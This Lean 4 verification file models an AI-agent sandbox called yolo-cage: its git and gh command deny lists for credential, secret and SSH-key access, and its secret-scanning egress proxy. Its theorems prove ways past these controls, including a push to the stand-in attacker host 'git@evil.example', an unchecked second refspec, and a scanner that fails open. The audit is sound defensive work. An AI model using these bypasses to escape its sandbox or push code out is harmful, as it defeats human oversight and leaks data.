import Mathlib

/-!
Verification of the yolo-cage dispatcher and egress proxy against a shallow
embedding of the repository's Python source.

Conventions of the embedding:
* Python strings are Lean `String`s; `str.startswith`, slicing `s[n:]` and
  `":" in s` are embedded through `.data` (the list-of-characters view), which
  is exactly their semantics.
* Subprocess calls, network calls and filesystem probes are oracles: each
  possible outcome of the external call is a parameter or an inductive value,
  and the embedded function is a pure function of those outcomes.
* Python `Optional[str]` is `Option String`; `None == somestr` is `false`,
  and `f-string` interpolation of `None` prints "None".
-/

namespace YoloCage

/-- Embedding of Python `s.startswith(pre)`: `pre` is a prefix of `s`. -/
def py_startswith (s pre : String) : Bool :=
  pre.data.isPrefixOf s.data

/-- Embedding of Python `s[n:]` for a nonnegative index. -/
def py_drop (s : String) (n : Nat) : String :=
  ⟨s.data.drop n⟩

/-- Embedding of Python `c in s` for a single character. -/
def py_contains_char (s : String) (c : Char) : Bool :=
  s.data.contains c

/-- Embedding of Python `arg.split(":", 1)[1]`: everything after the first
colon (the empty string when there is no colon). -/
def after_first_colon (s : String) : String :=
  ⟨(s.data.dropWhile (fun c => c ≠ ':')).drop 1⟩

/-- Embedding of Python `f-string` interpolation of an `Optional[str]`. -/
def opt_repr (c : Option String) : String :=
  match c with
  | some s => s
  | none => "None"

/-! ### dispatcher/commands.py — git command classification -/

/-- Categories of git commands with different policy handling
(`CommandCategory` in `dispatcher/commands.py`). -/
inductive CommandCategory where
  | LOCAL
  | BRANCH
  | MERGE
  | REMOTE_READ
  | REMOTE_WRITE
  | DENIED
  | UNKNOWN
deriving DecidableEq, Repr

/-- `ALLOWLIST_LOCAL` from `dispatcher/commands.py`. -/
def ALLOWLIST_LOCAL : List String :=
  ["add", "rm", "mv", "status", "log", "diff", "show", "commit",
   "stash", "reset", "restore", "rev-parse", "ls-files",
   "blame", "shortlog", "describe", "tag", "clean"]

/-- `ALLOWLIST_BRANCH` from `dispatcher/commands.py`. -/
def ALLOWLIST_BRANCH : List String := ["branch", "checkout", "switch"]

/-- `ALLOWLIST_MERGE` from `dispatcher/commands.py`. -/
def ALLOWLIST_MERGE : List String := ["merge", "rebase", "cherry-pick"]

/-- `ALLOWLIST_REMOTE_READ` from `dispatcher/commands.py`. -/
def ALLOWLIST_REMOTE_READ : List String := ["fetch", "pull"]

/-- `ALLOWLIST_REMOTE_WRITE` from `dispatcher/commands.py`. -/
def ALLOWLIST_REMOTE_WRITE : List String := ["push"]

/-- `DENYLIST_MESSAGES` from `dispatcher/commands.py`. -/
def DENYLIST_MESSAGES : List (String × String) :=
  [("remote", "yolo-cage: remote management is not permitted"),
   ("clone", "yolo-cage: clone is not permitted; use the provided workspace"),
   ("submodule", "yolo-cage: submodules are not supported"),
   ("credential", "yolo-cage: credential management is not permitted"),
   ("config",
    "yolo-cage: direct git configuration is not permitted.\nUser identity and settings are managed via deployment configuration.")]

/-- `get_subcommand` from `dispatcher/commands.py`: first argument that does
not start with `-`. -/
def get_subcommand : List String → Option String
  | [] => none
  | arg :: rest =>
    if py_startswith arg ("-") then get_subcommand rest else some arg

/-- `classify` from `dispatcher/commands.py`. -/
def classify (args : List String) : CommandCategory × Option String :=
  match get_subcommand args with
  | none => (.UNKNOWN, none)
  | some cmd =>
    match DENYLIST_MESSAGES.lookup cmd with
    | some msg => (.DENIED, some msg)
    | none =>
      if ALLOWLIST_LOCAL.contains cmd then (.LOCAL, none)
      else if ALLOWLIST_BRANCH.contains cmd then (.BRANCH, none)
      else if ALLOWLIST_MERGE.contains cmd then (.MERGE, none)
      else if ALLOWLIST_REMOTE_READ.contains cmd then (.REMOTE_READ, none)
      else if ALLOWLIST_REMOTE_WRITE.contains cmd then (.REMOTE_WRITE, none)
      else (.UNKNOWN, none)

/-! ### dispatcher/git.py — branch detection (subprocess outcome as oracle) -/

/-- Possible outcomes of the `git rev-parse --abbrev-ref HEAD` subprocess in
`get_current_branch` (`dispatcher/git.py`): success with captured stdout,
non-zero exit, `FileNotFoundError` (directory missing), or another
exception. -/
inductive RevParse where
  | ok (stdout : String)
  | fail
  | no_dir
  | exn
deriving DecidableEq, Repr

/-- `get_current_branch` from `dispatcher/git.py`, as a function of the
subprocess outcome: on success the stripped stdout is the branch, with
`"HEAD"` (detached HEAD) mapped to `None`; every failure yields `None`. -/
def get_current_branch : RevParse → Option String
  | .ok out =>
    let branch := out.trim
    if branch = "HEAD" then none else some branch
  | .fail => none
  | .no_dir => none
  | .exn => none

/-! ### dispatcher/policy.py — branch enforcement policy -/

/-- Inner loop of `get_checkout_target` (`dispatcher/policy.py`): find the
argument after `checkout`/`switch` that is not a flag. -/
def find_checkout_target : List String → Bool → Option String
  | [], _ => none
  | arg :: rest, found =>
    if arg = "checkout" ∨ arg = "switch" then find_checkout_target rest true
    else if found ∧ ¬py_startswith arg ("-") then some arg
    else find_checkout_target rest found

/-- `get_checkout_target` from `dispatcher/policy.py`. -/
def get_checkout_target (args : List String) : Option String :=
  match get_subcommand args with
  | some cmd =>
    if cmd = "checkout" ∨ cmd = "switch" then find_checkout_target args false
    else none
  | none => none

/-- `check_branch_switch` from `dispatcher/policy.py`. -/
def check_branch_switch (args : List String) (assigned_branch : String) :
    Option String :=
  match get_checkout_target args with
  | none => none
  | some target =>
    if target = assigned_branch then none
    else some ("yolo-cage: you are now viewing branch '" ++ target ++ "'.\nYour assigned branch is '" ++ assigned_branch ++ "'.\nCommits and pushes to other branches are not permitted.\n")

/-- `check_merge_allowed` from `dispatcher/policy.py`. The source calls
`get_current_branch(cwd)`; here its result is the `current` parameter.
Python's `current == assigned_branch` with `current : Optional[str]` holds
exactly when `current = some assigned_branch`. -/
def check_merge_allowed (current : Option String) (assigned_branch cmd : String) :
    Option String :=
  if current = some assigned_branch then none
  else some ("yolo-cage: you can only " ++ cmd ++ " while on your assigned branch '" ++ assigned_branch ++ "'.\nRun 'git checkout " ++ assigned_branch ++ "' first.\n")

/-- `get_push_refspec_target` from `dispatcher/policy.py`: scan the arguments
for the first one containing `:` and not starting with `-`; return the text
after its first colon, or `None` when that text is empty. The loop returns as
soon as such an argument is found — later arguments are never examined. -/
def get_push_refspec_target : List String → Option String
  | [] => none
  | arg :: rest =>
    if py_contains_char arg ':' ∧ ¬py_startswith arg ("-") then
      let remote_ref := after_first_colon arg
      if remote_ref = "" then none else some remote_ref
    else get_push_refspec_target rest

/-- `check_push_allowed` from `dispatcher/policy.py`. The source calls
`get_current_branch(cwd)`; here its result is the `current` parameter. -/
def check_push_allowed (args : List String) (current : Option String)
    (assigned_branch : String) : Option String :=
  if current = some assigned_branch then
    match get_push_refspec_target args with
    | some refspec_target =>
      if refspec_target = assigned_branch then none
      else some ("yolo-cage: you can only push to branch '" ++ assigned_branch ++ "'\n")
    | none => none
  else
    some ("yolo-cage: you can only push from your assigned branch '" ++ assigned_branch ++ "'.\nCurrent branch is '" ++ opt_repr current ++ "'.\n")

/-! ### dispatcher/config.py and path translation -/

/-- `WORKSPACE_ROOT` from `dispatcher/config.py` (environment default). -/
def WORKSPACE_ROOT : String := "/workspaces"

/-- `_translate_cwd` from `dispatcher/app.py`: the agent's `/workspace` is
rewritten to `WORKSPACE_ROOT/branch`; `11` is the length of `"/workspace/"`,
so `agent_cwd[11:]` is the relative subpath. -/
def _translate_cwd (agent_cwd : String) (branch : String) : String :=
  if agent_cwd = "/workspace" then WORKSPACE_ROOT ++ "/" ++ branch
  else if py_startswith agent_cwd ("/workspace/") then
    WORKSPACE_ROOT ++ "/" ++ branch ++ "/" ++ py_drop agent_cwd 11
  else agent_cwd

/-- `AGENT_WORKSPACE` from `dispatcher/paths.py`. -/
def AGENT_WORKSPACE : String := "/home/dev/workspace"

/-- `translate_cwd` from `dispatcher/paths.py`. -/
def translate_cwd (agent_cwd : String) (branch : String) : String :=
  if agent_cwd = AGENT_WORKSPACE then WORKSPACE_ROOT ++ "/" ++ branch
  else if py_startswith agent_cwd (AGENT_WORKSPACE ++ "/") then
    WORKSPACE_ROOT ++ "/" ++ branch ++ "/" ++ py_drop agent_cwd (AGENT_WORKSPACE.length + 1)
  else agent_cwd

/-! ### dispatcher/app.py — the /git endpoint -/

/-- `GitRequest` from `dispatcher/models.py`. -/
structure GitRequest where
  args : List String
  cwd : String
deriving DecidableEq, Repr

/-- `GitResult` from `dispatcher/models.py`. -/
structure GitResult where
  exit_code : Int
  stdout : String
  stderr : String
deriving DecidableEq, Repr

/-- Oracle bundle for one `/git` request: the outcome of
`get_current_branch` on the translated cwd, the outcome of
`run_pre_push_hooks` (`dispatcher/hooks.py`, a tuple `(ok, output)`), and the
result of the single `execute` / `execute_with_auth` subprocess call the
handler makes on its executing path. -/
structure GitCtx where
  current : Option String
  hook_ok : Bool
  hook_output : String
  exec : GitResult
deriving DecidableEq, Repr

/-- Shape of one `/git` response: the plain-text body, the
`X-Yolo-Cage-Exit-Code` header value, whether the git binary was invoked
(`execute` or `execute_with_auth` reached), and whether it ran with
authentication. -/
structure GitReply where
  body : String
  exit_code : Int
  invoked : Bool
  with_auth : Bool
deriving DecidableEq, Repr

/-- `handle_git` from `dispatcher/app.py`. `assigned` is the registry lookup
for the caller address (`none` = unregistered, HTTP 403, modelled as `none`).
Denials carry exit header 1 and never invoke the git binary. -/
def handle_git (assigned : Option String) (req : GitRequest) (ctx : GitCtx) :
    Option GitReply :=
  match assigned with
  | none => none
  | some assigned_branch =>
    let _cwd := _translate_cwd req.cwd assigned_branch
    match classify req.args with
    | (.DENIED, deny_message) =>
      some ⟨deny_message.getD ("") ++ "\n", 1, false, false⟩
    | (.UNKNOWN, _) =>
      some ⟨"yolo-cage: unrecognized or disallowed git operation\n", 1, false, false⟩
    | (.BRANCH, _) =>
      let warning := check_branch_switch req.args assigned_branch
      let prefixed := match warning with
        | some w => w ++ "\n"
        | none => ""
      some ⟨prefixed ++ ctx.exec.stdout ++ ctx.exec.stderr, ctx.exec.exit_code, true, false⟩
    | (.MERGE, _) =>
      match check_merge_allowed ctx.current assigned_branch
          ((get_subcommand req.args).getD ("None")) with
      | some error => some ⟨error, 1, false, false⟩
      | none =>
        some ⟨ctx.exec.stdout ++ ctx.exec.stderr, ctx.exec.exit_code, true, false⟩
    | (.REMOTE_WRITE, _) =>
      match check_push_allowed req.args ctx.current assigned_branch with
      | some error => some ⟨error, 1, false, false⟩
      | none =>
        if ctx.hook_ok then
          some ⟨ctx.exec.stdout ++ ctx.exec.stderr, ctx.exec.exit_code, true, true⟩
        else
          some ⟨"yolo-cage: push rejected by pre-push hooks\n\n" ++ ctx.hook_output, 1, false, false⟩
    | (.REMOTE_READ, _) =>
      some ⟨ctx.exec.stdout ++ ctx.exec.stderr, ctx.exec.exit_code, true, true⟩
    | (.LOCAL, _) =>
      some ⟨ctx.exec.stdout ++ ctx.exec.stderr, ctx.exec.exit_code, true, false⟩

/-! ### dispatcher/gh_commands.py — GitHub CLI command classification -/

/-- `GhCommandCategory` from `dispatcher/gh_commands.py`. -/
inductive GhCommandCategory where
  | ALLOWED
  | BLOCKED
  | UNKNOWN
deriving DecidableEq, Repr

/-- `ALLOWED_COMMANDS` from `dispatcher/gh_commands.py`: allowed subcommand
sets per primary command; `none` means all subcommands are allowed. -/
def ALLOWED_COMMANDS : List (String × Option (List String)) :=
  [("issue", some ["create", "list", "view", "comment", "edit", "status", "close", "reopen"]),
   ("pr", some ["create", "list", "view", "comment", "edit", "diff", "checks", "status", "checkout", "close"]),
   ("repo", some ["view", "list", "clone"]),
   ("search", some ["issues", "prs", "repos", "code", "commits"]),
   ("gist", some ["create", "list", "view", "edit"]),
   ("browse", none),
   ("status", none),
   ("run", some ["list", "view", "watch"]),
   ("label", some ["list", "create", "edit"]),
   ("project", some ["list", "view", "create", "edit", "field-list", "item-list", "item-add"])]

/-- `BLOCKED_COMMANDS` from `dispatcher/gh_commands.py`: blocked
(primary, subcommand) pairs with their specific messages. -/
def BLOCKED_COMMANDS : List (String × List (String × String)) :=
  [("pr",
    [("merge", "yolo-cage: merging PRs is not permitted. Open a PR for human review instead.")]),
   ("repo",
    [("delete", "yolo-cage: deleting repositories is not permitted."),
     ("create", "yolo-cage: creating repositories is not permitted."),
     ("edit", "yolo-cage: editing repository settings is not permitted."),
     ("rename", "yolo-cage: renaming repositories is not permitted."),
     ("archive", "yolo-cage: archiving repositories is not permitted.")]),
   ("release",
    [("delete", "yolo-cage: deleting releases is not permitted.")]),
   ("secret",
    [("set", "yolo-cage: managing secrets is not permitted."),
     ("delete", "yolo-cage: managing secrets is not permitted."),
     ("list", "yolo-cage: accessing secrets is not permitted.")]),
   ("ssh-key",
    [("add", "yolo-cage: managing SSH keys is not permitted."),
     ("delete", "yolo-cage: managing SSH keys is not permitted."),
     ("list", "yolo-cage: listing SSH keys is not permitted.")]),
   ("gpg-key",
    [("add", "yolo-cage: managing GPG keys is not permitted."),
     ("delete", "yolo-cage: managing GPG keys is not permitted.")]),
   ("auth",
    [("login", "yolo-cage: authentication is managed by the sandbox."),
     ("logout", "yolo-cage: authentication is managed by the sandbox."),
     ("setup-git", "yolo-cage: git authentication is managed by the sandbox."),
     ("refresh", "yolo-cage: authentication is managed by the sandbox.")]),
   ("config",
    [("set", "yolo-cage: gh configuration is managed by the sandbox."),
     ("clear-cache", "yolo-cage: gh configuration is managed by the sandbox.")]),
   ("variable",
    [("set", "yolo-cage: managing variables is not permitted."),
     ("delete", "yolo-cage: managing variables is not permitted."),
     ("list", "yolo-cage: accessing variables is not permitted.")])]

/-- `FULLY_BLOCKED_COMMANDS` from `dispatcher/gh_commands.py`. -/
def FULLY_BLOCKED_COMMANDS : List (String × String) :=
  [("api", "yolo-cage: direct API access is not permitted. Use specific gh commands instead."),
   ("extension", "yolo-cage: managing extensions is not permitted."),
   ("alias", "yolo-cage: managing aliases is not permitted.")]

/-- Second half of `get_gh_subcommand` (`dispatcher/gh_commands.py`): the
next argument not starting with `-`. -/
def first_non_flag : List String → Option String
  | [] => none
  | arg :: rest =>
    if py_startswith arg ("-") then first_non_flag rest else some arg

/-- `get_gh_subcommand` from `dispatcher/gh_commands.py`: the first two
arguments that do not start with `-`, as (main command, subcommand). -/
def get_gh_subcommand : List String → Option String × Option String
  | [] => (none, none)
  | arg :: rest =>
    if py_startswith arg ("-") then get_gh_subcommand rest
    else (some arg, first_non_flag rest)

/-- `classify_gh` from `dispatcher/gh_commands.py`. Blocked pairs are
consulted before the allow table, so a pair like `("pr", "merge")` is blocked
even though `"pr"` also appears in `ALLOWED_COMMANDS`. -/
def classify_gh (args : List String) : GhCommandCategory × Option String :=
  match get_gh_subcommand args with
  | (none, _) => (.UNKNOWN, none)
  | (some main_cmd, sub_cmd) =>
    match FULLY_BLOCKED_COMMANDS.lookup main_cmd with
    | some msg => (.BLOCKED, some msg)
    | none =>
      match (BLOCKED_COMMANDS.lookup main_cmd).bind
          (fun blocked_subs => sub_cmd.bind (fun s => blocked_subs.lookup s)) with
      | some msg => (.BLOCKED, some msg)
      | none =>
        match ALLOWED_COMMANDS.lookup main_cmd with
        | some none => (.ALLOWED, none)
        | some (some allowed_subs) =>
          match sub_cmd with
          | some s => if allowed_subs.contains s then (.ALLOWED, none) else (.UNKNOWN, none)
          | none => (.UNKNOWN, none)
        | none => (.UNKNOWN, none)

/-- The denial message the blocked tables associate with a parsed
(main command, subcommand) pair: the fully-blocked message for the primary
when there is one, otherwise the blocked-pair message. Used to state which
message a blocked request must surface. -/
def gh_block_message (main_cmd : String) (sub_cmd : Option String) : Option String :=
  match FULLY_BLOCKED_COMMANDS.lookup main_cmd with
  | some msg => some msg
  | none =>
    (BLOCKED_COMMANDS.lookup main_cmd).bind
      (fun blocked_subs => sub_cmd.bind (fun s => blocked_subs.lookup s))

/-! ### dispatcher/gh.py — gh execution with temp-file rewriting -/

/-- `GhResult` from `dispatcher/models.py`. -/
structure GhResult where
  exit_code : Int
  stdout : String
  stderr : String
deriving DecidableEq, Repr

/-- Possible outcomes of the `subprocess.run(["gh"] + exec_args, ...)` call
in `execute` (`dispatcher/gh.py`): completion with an exit code and captured
output, `TimeoutExpired`, `FileNotFoundError`, or another exception. -/
inductive GhProcOutcome where
  | ran (exit_code : Int) (stdout stderr : String)
  | timed_out
  | tool_missing
  | raised (msg : String)
deriving DecidableEq, Repr

/-- Temp-file path produced by the n-th `tempfile.mkstemp` call of one
request (`prefix="gh-body-"`, `suffix=".md"`); the unique integer stands for
mkstemp's fresh-name choice. -/
def temp_path (n : Nat) : String :=
  "/tmp/gh-body-" ++ toString n ++ ".md"

/-- `_rewrite_args_with_temp_files` from `dispatcher/gh.py`. Mirrors the
index loop: a `--body-file` followed by `-` (with a stdin body) or by a path
present in the file map is replaced by `--body-file <temp>`, consuming both
tokens; otherwise only the current token is consumed. Returns the rewritten
argv and the created temp files as (path, content written) pairs, in creation
order. `n` counts the mkstemp calls already made. -/
def _rewrite_args_with_temp_files (files : List (String × String))
    (stdin_content : Option String) :
    List String → Nat → List String × List (String × String)
  | [], _ => ([], [])
  | [arg], _ => ([arg], [])
  | arg :: filepath :: rest, n =>
    if arg = "--body-file" then
      if filepath = "-" ∧ stdin_content.isSome then
        let t := temp_path n
        let tail := _rewrite_args_with_temp_files files stdin_content rest (n + 1)
        ("--body-file" :: t :: tail.1, (t, stdin_content.getD ("")) :: tail.2)
      else
        match files.lookup filepath with
        | some content =>
          let t := temp_path n
          let tail := _rewrite_args_with_temp_files files stdin_content rest (n + 1)
          ("--body-file" :: t :: tail.1, (t, content) :: tail.2)
        | none =>
          let tail := _rewrite_args_with_temp_files files stdin_content (filepath :: rest) n
          (arg :: tail.1, tail.2)
    else
      let tail := _rewrite_args_with_temp_files files stdin_content (filepath :: rest) n
      (arg :: tail.1, tail.2)

/-- The `finally` block of `execute` (`dispatcher/gh.py`): starting from the
set of created temp files, `os.unlink` each path in `temp_files`. The result
is the list of temp files still on disk afterwards. -/
def cleanup_temps (created : List String) : List String :=
  created.foldl (fun live t => live.erase t) created

/-- Trace of one `execute` call (`dispatcher/gh.py`): the returned
`GhResult`, the argv actually passed to the gh binary, the temp files
created during rewriting, and the temp files persisting after the
`finally` cleanup. -/
structure GhExecTrace where
  result : GhResult
  exec_args : List String
  temps_created : List (String × String)
  temps_remaining : List String
deriving DecidableEq, Repr

/-- `execute` from `dispatcher/gh.py` (imported as `gh_execute` in
`dispatcher/app.py`), as a function of the subprocess outcome. `files = none`
models the Python default `files=None` (`files = files or {}`). Every
outcome, exceptional ones included, passes through the `finally` cleanup. -/
def gh_execute (args : List String) (files : Option (List (String × String)))
    (stdin_content : Option String) (out : GhProcOutcome) : GhExecTrace :=
  let files := files.getD []
  let rewritten := _rewrite_args_with_temp_files files stdin_content args 0
  let result : GhResult :=
    match out with
    | .ran code stdout stderr => ⟨code, stdout, stderr⟩
    | .timed_out => ⟨1, "", "yolo-cage: gh command timed out after 5 minutes"⟩
    | .tool_missing => ⟨1, "", "yolo-cage: gh CLI not installed"⟩
    | .raised msg => ⟨1, "", "yolo-cage: failed to execute gh: " ++ msg⟩
  ⟨result, rewritten.1, rewritten.2, cleanup_temps (rewritten.2.map Prod.fst)⟩

/-! ### dispatcher/app.py — the /gh endpoint -/

/-- `GhRequest` from `dispatcher/models.py`: argv, cwd, transmitted file map
for `--body-file <path>` arguments, and stdin body for `--body-file -`. -/
structure GhRequest where
  args : List String
  cwd : String
  files : List (String × String)
  stdin : Option String
deriving DecidableEq, Repr

/-- Shape of one `/gh` response: body, `X-Yolo-Cage-Exit-Code` header value,
and the execution trace (`none` when the forge binary was never invoked). -/
structure GhReply where
  body : String
  exit_code : Int
  trace : Option GhExecTrace
deriving DecidableEq, Repr

/-- `handle_gh` from `dispatcher/app.py`. `assigned` is the registry lookup
(`none` = unregistered, HTTP 403). Note the source calls
`gh_execute(gh_req.args, cwd)` — it forwards neither `gh_req.files` nor
`gh_req.stdin` to `execute`. -/
def handle_gh (assigned : Option String) (req : GhRequest) (out : GhProcOutcome) :
    Option GhReply :=
  match assigned with
  | none => none
  | some assigned_branch =>
    let _cwd := _translate_cwd req.cwd assigned_branch
    match classify_gh req.args with
    | (.BLOCKED, deny_message) =>
      some ⟨deny_message.getD ("") ++ "\n", 1, none⟩
    | (.UNKNOWN, _) =>
      some ⟨"yolo-cage: unrecognized or disallowed gh operation\n", 1, none⟩
    | (.ALLOWED, _) =>
      let result := gh_execute req.args none none out
      some ⟨result.result.stdout ++ result.result.stderr, result.result.exit_code, some result⟩

/-! ### proxy/addon.py — secret-scanner client -/

/-- Parsed 200-response of the scanner in `_scan_for_secrets`
(`proxy/addon.py`): the `is_valid` flag and the per-scanner scores. Scores
are rationals; the source treats any score `< 1.0` as a positive hit. -/
structure ScanResponse where
  is_valid : Bool
  scanners : List (String × ℚ)
deriving DecidableEq, Repr

/-- `EgressProxy._scan_for_secrets` from `proxy/addon.py`, as a function of
the external outcomes. `available` is `self.llm_guard_available` on entry;
`health_probe` is what `_check_llm_guard` would set it to if called
(status 200 on `/healthz`); `attempt` is the scan POST outcome, where `none`
covers both a raised exception and a non-200 response (the two cases fall
through to the same `return False, []`). Returns the updated availability
bit and the `(has_secrets, detected)` pair. -/
def _scan_for_secrets (available : Bool) (health_probe : Bool)
    (attempt : Option ScanResponse) (text : String) :
    Bool × Bool × List String :=
  if text = "" ∨ text.length < 10 then (available, false, [])
  else
    let available := if available then available else health_probe
    if available = false then (available, true, ["scanner_unavailable"])
    else
      match attempt with
      | some resp =>
        if resp.is_valid = false then
          (available, true, (resp.scanners.filter (fun p => p.2 < 1)).map Prod.fst)
        else (available, false, [])
      | none => (available, false, [])

/-! ### dispatcher/bootstrap.py — workspace bootstrapper -/

/-- Abstract on-disk workspace state used by `bootstrap_workspace`
(`dispatcher/bootstrap.py`): whether `.git` exists (`git_dir.exists()`),
whether the directory is non-empty (`any(workspace.iterdir())`), and the
currently checked-out branch (`none` for detached HEAD or when
`rev-parse --abbrev-ref HEAD` fails). -/
structure Workspace where
  has_git : Bool
  has_files : Bool
  branch : Option String
deriving DecidableEq, Repr

/-- Oracle for the git subprocesses one bootstrap run performs: one field per
distinct invocation (success/failure, and what `ls-remote` / `show-ref` /
`remote show origin` report). -/
structure BootOracle where
  clone_ok : Bool
  fetch_ok : Bool
  remote_has_branch : Bool
  checkout_ok : Bool
  checkout_new_ok : Bool
  checkout_track_ok : Bool
  local_ref_exists : Bool
  init_ok : Bool
  remote_add_ok : Bool
  reset_ok : Bool
  checkout_force_ok : Bool
  checkout_default_ok : Bool
deriving DecidableEq, Repr

/-- The fields of the bootstrap result dictionary that vary
(`status` is always `"success"` on the `.ok` path; `workspace` and `branch`
echo the inputs). -/
structure BootResult where
  action : String
  cloned : Bool
deriving DecidableEq, Repr

/-- `_clone_fresh_workspace` from `dispatcher/bootstrap.py`: clone, then
check out the branch if it exists on the remote, else create it. -/
def _clone_fresh_workspace (branch : String) (o : BootOracle) :
    Except String (BootResult × Workspace) :=
  if o.clone_ok = false then .error ("Failed to clone repository")
  else if o.remote_has_branch then
    if o.checkout_ok then .ok (⟨"checked_out", true⟩, ⟨true, true, some branch⟩)
    else .error ("Failed to checkout branch")
  else
    if o.checkout_new_ok then .ok (⟨"created", true⟩, ⟨true, true, some branch⟩)
    else .error ("Failed to create branch")

/-- `_update_existing_workspace` from `dispatcher/bootstrap.py`: fetch
(failure is only a warning), compare the current branch with the requested
one, and switch if needed — preferring a local ref, then a remote-tracking
ref, then a new local branch. -/
def _update_existing_workspace (branch : String) (ws : Workspace) (o : BootOracle) :
    Except String (BootResult × Workspace) :=
  if ws.branch = some branch then .ok (⟨"already_on_branch", false⟩, ws)
  else
    let checkout_result :=
      if o.local_ref_exists then o.checkout_ok
      else if o.remote_has_branch then o.checkout_track_ok
      else o.checkout_new_ok
    if checkout_result = false then .error ("Failed to checkout branch")
    else .ok (⟨"switched_branch", false⟩, { ws with branch := some branch })

/-- `_initialize_workspace_with_existing_files` from
`dispatcher/bootstrap.py`: init in place, add the remote, fetch (fatal on
failure here), then reset/checkout from the remote branch or branch off the
remote's default branch. -/
def _initialize_workspace_with_existing_files (branch : String) (ws : Workspace)
    (o : BootOracle) : Except String (BootResult × Workspace) :=
  if o.init_ok = false then .error ("Failed to init git")
  else if o.remote_add_ok = false then .error ("Failed to add remote")
  else if o.fetch_ok = false then .error ("Failed to fetch")
  else if o.remote_has_branch then
    if o.reset_ok = false then .error ("Failed to reset to remote branch")
    else if o.checkout_force_ok then
      .ok (⟨"initialized_from_remote", false⟩, ⟨true, ws.has_files, some branch⟩)
    else .error ("Failed to setup branch")
  else
    if o.checkout_default_ok then
      .ok (⟨"initialized_new_branch", false⟩, ⟨true, ws.has_files, some branch⟩)
    else .error ("Failed to setup branch")

/-- `bootstrap_workspace` from `dispatcher/bootstrap.py`: refuse when
`REPO_URL` is unset, then dispatch on the workspace state — repository
metadata present, files but no metadata, or empty. -/
def bootstrap_workspace (repo_url : String) (branch : String) (ws : Workspace)
    (o : BootOracle) : Except String (BootResult × Workspace) :=
  if repo_url = "" then .error ("REPO_URL not configured")
  else if ws.has_git then _update_existing_workspace branch ws o
  else if ws.has_files then _initialize_workspace_with_existing_files branch ws o
  else _clone_fresh_workspace branch o

/-! ## Theorems -/

/-- C1: evaluation of the dispatcher at the failing input. The push argv
carries the positional argument `git@evil.example:feature-x` — the
`user@host:` absolute-URL form — with the caller bound to `feature-x` and the
workspace on `feature-x`, yet the request passes `check_push_allowed` and the
git binary is invoked with authentication. The policy contains no URL
detection at all, so push-by-URL is not unconditionally refused: the URL only
happens to be caught when the text after its first colon differs from the
assigned branch. -/
theorem push_url_form_reaches_git_binary :
    handle_git (some ("feature-x"))
      ⟨["push", "git@evil.example:feature-x"], "/workspace"⟩
      ⟨some ("feature-x"), true, "", ⟨0, "pushed", ""⟩⟩
    = some ⟨"pushed", 0, true, true⟩ := rfl

/-- C2: a scan attempt that fails (connection error or non-200 response)
while the availability bit is `true` returns no hit — the input is silently
allowed — and the availability bit is left `true` without any health
re-check; the health-probe outcome (given here both ways) is never consulted
on this path. This contradicts the fail-closed documentation of
`_scan_for_secrets` itself. -/
theorem scan_failed_attempt_silently_allows :
    _scan_for_secrets true true none ("0123456789abcdef") = (true, false, []) ∧
    _scan_for_secrets true false none ("0123456789abcdef") = (true, false, []) :=
  ⟨rfl, rfl⟩

/-- C6: evaluation of the `/gh` handler at the spec's scenario input
`["issue", "create", "--body-file", "-"]` with stdin body `"Hello"`. The
handler forwards neither the transmitted file map nor the stdin body to
`execute`, so no temporary file is created and the literal `-` is passed to
the forge binary — not the one materialized temp file the claim requires.
The second and third conjuncts show the execution layer itself does create
exactly one temp file, substituted into argv and cleaned up, when the stdin
body is actually supplied (as the `handlers/gh.py` variant does). -/
theorem gh_body_file_dropped_by_handler :
    handle_gh (some ("feature-x"))
      ⟨["issue", "create", "--body-file", "-"], "/workspace", [], some ("Hello")⟩
      (.ran 0 ("issue created") (""))
    = some ⟨"issue created", 0,
        some ⟨⟨0, "issue created", ""⟩,
          ["issue", "create", "--body-file", "-"], [], []⟩⟩ ∧
    (gh_execute ["issue", "create", "--body-file", "-"] (some []) (some ("Hello"))
        (.ran 0 ("") (""))).exec_args
      = ["issue", "create", "--body-file", temp_path 0] ∧
    (gh_execute ["issue", "create", "--body-file", "-"] (some []) (some ("Hello"))
        (.ran 0 ("") (""))).temps_created = [(temp_path 0, "Hello")] ∧
    (gh_execute ["issue", "create", "--body-file", "-"] (some []) (some ("Hello"))
        (.ran 0 ("") (""))).temps_remaining = [] :=
  ⟨rfl, rfl, rfl, rfl⟩

/-- C3 counterexample: the argv `["push", "origin", "x:", "y:main"]` contains
the non-flag refspec `y:main` whose destination `main` differs from the
assigned branch `feature-x`, and the workspace is on the assigned branch, yet
the push is not refused: the scan stops at the first colon-containing
argument `x:` (empty destination, treated as no refspec) and the git binary
is invoked. -/
theorem push_second_refspec_not_checked :
    py_contains_char ("y:main") ':' = true ∧
    py_startswith ("y:main") ("-") = false ∧
    after_first_colon ("y:main") = "main" ∧
    handle_git (some ("feature-x"))
      ⟨["push", "origin", "x:", "y:main"], "/workspace"⟩
      ⟨some ("feature-x"), true, "", ⟨0, "pushed", ""⟩⟩
    = some ⟨"pushed", 0, true, true⟩ :=
  ⟨rfl, rfl, rfl, rfl⟩

set_option maxRecDepth 8192 in
/-- C7 counterexample: `git merge origin/main` with the caller bound to
`feature-x` while the workspace is on `main` is refused with exit 1 and the
git binary is not invoked, but the denial body names only the assigned
branch: `feature-x` occurs in it while the current branch `main` does not
occur anywhere in it (substring occurrence stated as list infix on the
character data). -/
theorem merge_denial_omits_current_branch :
    handle_git (some ("feature-x")) ⟨["merge", "origin/main"], "/workspace"⟩
      ⟨some ("main"), true, "", ⟨0, "", ""⟩⟩
    = some ⟨"yolo-cage: you can only merge while on your assigned branch 'feature-x'.\nRun 'git checkout feature-x' first.\n", 1, false, false⟩ ∧
    ("feature-x" : String).data <:+:
      ("yolo-cage: you can only merge while on your assigned branch 'feature-x'.\nRun 'git checkout feature-x' first.\n" : String).data ∧
    ¬ ("main" : String).data <:+:
      ("yolo-cage: you can only merge while on your assigned branch 'feature-x'.\nRun 'git checkout feature-x' first.\n" : String).data :=
  ⟨rfl, by decide, by decide⟩

/-- C4: while the scanner is unavailable — the availability bit is `false`
and the re-check health probe fails — every scan whose input reaches the
length floor (10) returns a positive hit tagged `scanner_unavailable`
(fail-closed), and every input below the floor is passed without any scan,
whatever the scan-POST oracle would have answered. -/
theorem scanner_unavailable_fails_closed :
    ∀ (attempt : Option ScanResponse) (text : String),
      (10 ≤ text.length →
        _scan_for_secrets false false attempt text
          = (false, true, ["scanner_unavailable"])) ∧
      (text.length < 10 →
        _scan_for_secrets false false attempt text = (false, false, [])) := by
  intro attempt text
  constructor
  · intro h
